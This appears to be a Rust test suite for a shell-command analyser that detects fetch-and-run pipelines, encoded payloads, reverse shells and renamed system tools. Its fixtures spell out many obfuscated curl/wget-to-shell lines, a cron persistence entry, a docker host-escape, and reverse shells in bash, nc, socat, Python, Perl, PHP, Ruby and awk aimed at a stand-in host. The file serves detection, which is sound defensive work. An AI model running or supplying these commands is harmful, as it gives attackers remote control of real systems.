use super::*;

fn sh(text: &str) -> Understood {
    understand(&["sh".to_owned(), "-c".to_owned(), text.to_owned()])
}

fn runs_download(text: &str) -> bool {
    sh(text).found.iter().any(|found| matches!(found, Found::DownloadRun { .. }))
}

fn decoded(text: &str) -> Option<String> {
    sh(text).found.iter().find_map(|found| match found {
        Found::Decoded { text, .. } => Some(text.clone()),
        Found::DownloadRun { .. }
        | Found::Reverse { .. }
        | Found::Renamed { .. }
        | Found::Scanner { .. }
        | Found::ScannerInstalled { .. } => None,
    })
}

fn reverse(text: &str) -> Option<String> {
    sh(text).found.iter().find_map(|found| match found {
        Found::Reverse { end, .. } => Some(end.clone().unwrap_or_default()),
        Found::DownloadRun { .. }
        | Found::Decoded { .. }
        | Found::Renamed { .. }
        | Found::Scanner { .. }
        | Found::ScannerInstalled { .. } => None,
    })
}

#[test]
fn what_is_fetched_and_run_is_found_however_it_is_written() {
    for text in [
        "curl -fsSL http://203.0.113.9/a.sh | sh",
        "curl -s http://203.0.113.9/a.sh|bash -s -- -q",
        "cu\"\"rl 'http://203.0.113.9/a' | \\b\\a\\s\\h",
        "c${x:-u}rl$IFS-s${IFS}203.0.113.9/a|sh",
        "{curl,-s,203.0.113.9/a}|{bash,-s}",
        "cu$@rl 203.0.113.9/a|sh",
        "a=cu; b=rl; $a$b -s 203.0.113.9/a | sh",
        "/usr/b?n/cu?l 203.0.113.9/a|/b?n/s?",
        "$'\\x63url' 203.0.113.9/a | sh",
        "(curl -s 203.0.113.9/a || wget -q -O- 203.0.113.9/a) | bash",
        "bash <(curl -s 203.0.113.9/a)",
        "bash -c \"$(curl -s 203.0.113.9/a)\"",
        "bash -c \"`wget -qO- 203.0.113.9/a`\"",
        "eval \"$(wget -qO - 203.0.113.9/a)\"",
        "source <(curl 203.0.113.9/a)",
        "sh <<< \"$(curl 203.0.113.9/a)\"",
        "x=$(curl 203.0.113.9/a); eval $x",
        "curl 203.0.113.9/a | tee /tmp/x | sudo -u root bash",
        "curl 203.0.113.9/a | base64 -d | sh",
        "curl 203.0.113.9/a > /tmp/a; chmod +x /tmp/a; /tmp/a",
        "cd /tmp; wget 203.0.113.9/a.sh && sh a.sh",
        "wget -q 203.0.113.9/a -O /tmp/.x; chmod 777 /tmp/.x; nohup /tmp/.x &",
        "curl -o /tmp/a 203.0.113.9/b; mv /tmp/a /tmp/c; sh /tmp/c",
        "curl -s 203.0.113.9/a.py | python3 -",
        "python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://203.0.113.9/a\").read())'",
        "python3 -c 'import os; os.system(\"curl 203.0.113.9/a | sh\")'",
        "sh </dev/tcp/203.0.113.9/80",
        "nc 203.0.113.9 80 | sh",
        "curl 203.0.113.9/a | xargs -I{} sh -c {}",
        "curl 203.0.113.9/a > >(sh)",
        "(crontab -l; echo '* * * * * curl 203.0.113.9/a | sh') | crontab -",
        "docker run -v /:/mnt alpine chroot /mnt sh -c 'curl 203.0.113.9/a | sh'",
        "nohup bash -c 'curl 203.0.113.9/a | sh' &",
        "cat <<EOF | sh\ncurl 203.0.113.9/a | sh\nEOF\n",
    ] {
        assert!(runs_download(text), "{text}: {:?}", sh(text));
    }
}

#[test]
fn what_is_fetched_and_only_read_is_not_run() {
    for text in [
        "curl -s http://127.0.0.1/health | grep ok",
        "curl -s http://127.0.0.1/x | python3 -m json.tool",
        "curl -s http://127.0.0.1/x | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
        "curl -fsSL https://example.org/key | gpg --dearmor -o /usr/share/keyrings/x.gpg",
        "curl https://example.org/a.tar.gz | tar xz",
        "curl -o /tmp/a.json https://example.org/a.json; jq . /tmp/a.json",
        "wget https://example.org/a.deb && dpkg -i a.deb",
        "x=$(curl -s https://example.org/version); echo $x",
        "curl -f http://localhost/ || exit 1",
        "curl https://example.org/a.yaml | kubectl apply -f -",
        "curl -s https://example.org/x | node -e 'process.stdin.pipe(process.stdout)'",
        "echo 'curl 203.0.113.9/a | sh'",
        "# curl 203.0.113.9/a | sh",
        "grep 'curl .* | sh' /var/log/x",
        "git commit -m 'run curl x | sh'",
    ] {
        assert!(!runs_download(text), "{text}: {:?}", sh(text));
    }
}

#[test]
fn encodings_are_taken_off_and_the_text_is_read_again() {
    // `echo -n 'curl 203.0.113.9/a | sh' | base64`, and that once more.
    let once = "Y3VybCAyMDMuMC4xMTMuOS9hIHwgc2g=";
    let twice = "WTNWeWJDQXlNRE11TUM0eE1UTXVPUzloSUh3Z2MyZz0=";
    for text in [
        format!("echo {once} | base64 -d | sh"),
        format!("sh -c \"$(echo {once}|base64 --decode)\""),
        format!("base64 -d <<< {once} | bash"),
        format!("echo {once} | openssl base64 -d | sh"),
        format!("bash -c '{{echo,{once}}}|{{base64,-d}}|{{bash,-i}}'"),
        format!("echo {twice} | base64 -d | base64 -d | sh"),
        format!("x={once}; echo $x > /tmp/.a; base64 -d /tmp/.a > /tmp/.b; sh /tmp/.b"),
        format!("python3 -c 'import base64,os; os.system(base64.b64decode(\"{once}\"))'"),
        "printf '\\x63\\x75\\x72\\x6c\\x20203.0.113.9/a | sh' | sh".to_owned(),
        "echo -e '\\0143\\0165\\0162\\0154 203.0.113.9/a | sh' | sh".to_owned(),
        "echo 'hs | a/9.311.0.302 lruc' | rev | sh".to_owned(),
        "echo 6375726c203230332e302e3131332e392f61207c207368 | xxd -r -p | sh".to_owned(),
        "echo 'phey 203.0.113.9/n | fu' | tr a-z n-za-m | sh".to_owned(),
    ] {
        assert!(decoded(&text).is_some(), "{text}: {:?}", sh(&text));
        assert!(runs_download(&text), "{text}: {:?}", sh(&text));
    }
}

#[test]
fn an_encoded_text_that_is_only_stored_is_no_command() {
    for text in [
        "echo aGVsbG8K | base64 -d > /etc/motd",
        "kubectl get secret x -o yaml | base64 -d",
        "echo $TOKEN | base64 -d | jq .",
        "printf 'a\\nb\\n' | sh",
        "echo aWQK | base64 -d | grep id",
        "base64 -d key.b64 | gpg --import",
    ] {
        assert_eq!(decoded(text), None, "{text}: {:?}", sh(text));
    }
}

#[test]
fn a_shell_on_a_connection_is_found_with_its_other_end() {
    for (text, end) in [
        ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "203.0.113.9:4444"),
        ("bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", "203.0.113.9:4444"),
        ("0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196", "203.0.113.9:4444"),
        (
            "exec 5<>/dev/tcp/203.0.113.9/44;cat <&5 | while read line; do $line 2>&5 >&5; done",
            "203.0.113.9:44",
        ),
        ("exec 3<>/dev/tcp/203.0.113.9/44; exec 0<&3 1>&3; sh", "203.0.113.9:44"),
        ("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 44 >/tmp/f", "203.0.113.9:44"),
        ("telnet 203.0.113.9 44 | /bin/bash | telnet 203.0.113.9 45", "203.0.113.9:45"),
        (
            "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:44 > /tmp/s",
            "203.0.113.9:44",
        ),
        ("nc -e /bin/sh 203.0.113.9 44", "203.0.113.9:44"),
        ("ncat --ssl 203.0.113.9 44 --exec /bin/bash", "203.0.113.9:44"),
        ("busybox nc 203.0.113.9 44 -e sh", "203.0.113.9:44"),
        ("nc -lvnp 4444 -e /bin/sh", ":4444"),
        ("socat TCP:203.0.113.9:44 EXEC:'bash -li',pty,stderr", "203.0.113.9:44"),
        (
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",44));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'",
            "203.0.113.9:44",
        ),
        (
            "perl -e 'use Socket;$i=\"203.0.113.9\";$p=44;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");exec(\"sh -i\");'",
            "203.0.113.9:44",
        ),
        ("php -r '$s=fsockopen(\"203.0.113.9\",44);exec(\"sh <&3 >&3 2>&3\");'", "203.0.113.9:44"),
        (
            "ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.9\",44);while(l=c.gets);IO.popen(l,\"r\"){|i|c.print i.read}end'",
            "203.0.113.9:44",
        ),
        (
            "awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.9/44\";while(1){s|&getline c;while((c|getline)>0)print|&s}}'",
            "203.0.113.9:44",
        ),
    ] {
        assert_eq!(reverse(text).as_deref(), Some(end), "{text}: {:?}", sh(text));
    }
}

#[test]
fn a_connection_without_a_shell_on_it_is_none() {
    for text in [
        "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432'",
        "(echo > /dev/tcp/db/5432) >/dev/null 2>&1",
        "exec 3<>/dev/tcp/example.org/80; echo GET >&3; cat <&3",
        "echo stats | nc 127.0.0.1 2003",
        "sh backup.sh | nc 192.0.2.7 9000",
        "nc -zv 192.0.2.7 22",
        "tar c . | nc 192.0.2.7 9000",
        "socat TCP-LISTEN:80,fork TCP:192.0.2.7:80",
        "socat - UNIX-CONNECT:/run/x.sock",
        "openssl s_client -connect example.org:443 </dev/null | openssl x509 -noout",
        "python3 -c 'import socket;print(socket.gethostname())'",
        "bash -i",
        "bash -i > /tmp/log",
        "ssh host 'bash -i'",
    ] {
        assert_eq!(reverse(text), None, "{text}: {:?}", sh(text));
    }
}

#[test]
fn a_tool_of_the_system_that_gets_another_name_is_found() {
    let renamed = |text: &str| sh(text).found.iter().any(|found| matches!(found, Found::Renamed { .. }));
    assert!(renamed("cp /usr/bin/curl /tmp/.c"));
    assert!(renamed("mv `which chattr` /usr/bin/tntrecht") || renamed("mv /usr/bin/chattr /usr/bin/x"));
    assert!(!renamed("cp /usr/bin/curl /target/usr/bin/curl"));
    assert!(!renamed("cp /usr/bin/curl /target/usr/bin/"));
    assert!(!renamed("cp curl-8.tar /tmp/x"));
}

#[test]
fn a_shell_that_reads_its_input_is_told_from_one_that_has_a_script() {
    let reads = |argv: &[&str]| {
        understand(&argv.iter().map(|word| (*word).to_owned()).collect::<Vec<_>>()).is_reading
    };
    assert!(reads(&["-bash"]));
    assert!(reads(&["sh", "-i"]));
    assert!(reads(&["bash", "-s"]));
    assert!(!reads(&["sh", "-c", "id"]));
    assert!(!reads(&["bash", "/etc/x.sh"]));
    assert!(!reads(&["ls"]));
}

#[test]
fn hostile_text_costs_what_its_length_costs() {
    let long = 60_000;
    for piece in [
        "$(", "`", "{a,", "<(", "(", "a=$a$a;", "${", "\\", "'", "\"$(", "|", "<<x\n", "$'\\x", "eval ",
        "sh -c '", "xargs ",
    ] {
        let text = piece.repeat(long / piece.len());
        let understood = sh(&text);
        assert!(understood.form.len() <= 3 * 4096 && understood.found.len() <= 64, "{piece}");
    }
    let doubled = format!("a=x;{} eval $a | sh", "a=$a$a;".repeat(500));
    assert!(sh(&doubled).form.len() <= 3 * 4096);
}

/// Ways to write one letter of a word.
fn letter(way: u8, c: char) -> String {
    match way % 5 {
        0 => format!("\\{c}"),
        1 => format!("'{c}'"),
        2 => format!("\"{c}\""),
        3 => format!("$@{c}"),
        _plain => c.to_string(),
    }
}

proptest::proptest! {
    #[test]
    fn any_text_is_understood_without_harm(text in "[ -~\\n\\PC]{0,400}") {
        let understood = sh(&text);
        proptest::prop_assert!(understood.found.len() <= 64);
    }

    #[test]
    fn any_shell_like_text_is_understood_without_harm(
        pieces in proptest::collection::vec(
            proptest::sample::select(vec![
                "sh", "-c", "|", ";", "&&", "$(", ")", "`", "'", "\"", "<(", ">", "<<<", "2>&1", "eval", "curl", "base64",
                "-d", "{a,b}", "${x}", "$x", "x=", "aWQK", "\n", "\\", " ", "exec", "5<>/dev/tcp/a/1", "<&5", "python3",
                "xargs", "read", "tee", "printf", "\\x41", "<<E", "E", "socat", "EXEC:sh", "nc", "-e", "(", "}", "#",
            ]),
            0..60,
        )
    ) {
        let understood = sh(&pieces.join(" "));
        proptest::prop_assert!(understood.found.len() <= 64);
        let glued = sh(&pieces.concat());
        proptest::prop_assert!(glued.found.len() <= 64);
    }

    #[test]
    fn quotes_and_blanks_change_nothing_of_what_is_understood(
        ways in proptest::collection::vec(proptest::prelude::any::<u8>(), 64),
        blank in proptest::sample::select(vec![" ", "  ", "\t", "${IFS}", "$IFS$@", " \\\n "]),
        bar in proptest::sample::select(vec!["|", " | ", " |\n", "|&"]),
    ) {
        let mut ways = ways.into_iter().cycle();
        let mut word = |text: &str| text.chars().map(|c| letter(ways.next().unwrap(), c)).collect::<String>();
        let text = format!(
            "{}{blank}{}{blank}{}{bar}{} -d{bar}{}",
            word("curl"), word("-s"), word("http://203.0.113.9/a.sh"), word("base64"), word("sh")
        );
        let plain = sh("curl -s http://203.0.113.9/a.sh | base64 -d | sh");
        let got = sh(&text);
        proptest::prop_assert_eq!(&got.form, &plain.form, "{}", text);
        proptest::prop_assert_eq!(got.found, plain.found);
    }

    #[test]
    fn what_was_encoded_is_read_again(command in "[a-z]{1,8}( [a-z0-9/.]{1,8}){0,4}", pieces in 1..4_usize) {
        use base64::Engine as _;
        let mut text = command.clone();
        let mut decoders = String::new();
        for _ in 0..pieces {
            text = base64::engine::general_purpose::STANDARD.encode(text);
            decoders.push_str("base64 -d | ");
        }
        let got = decoded(&format!("echo {text} | {decoders}sh"));
        proptest::prop_assert_eq!(got.as_deref(), Some(command.as_str()));
    }
}
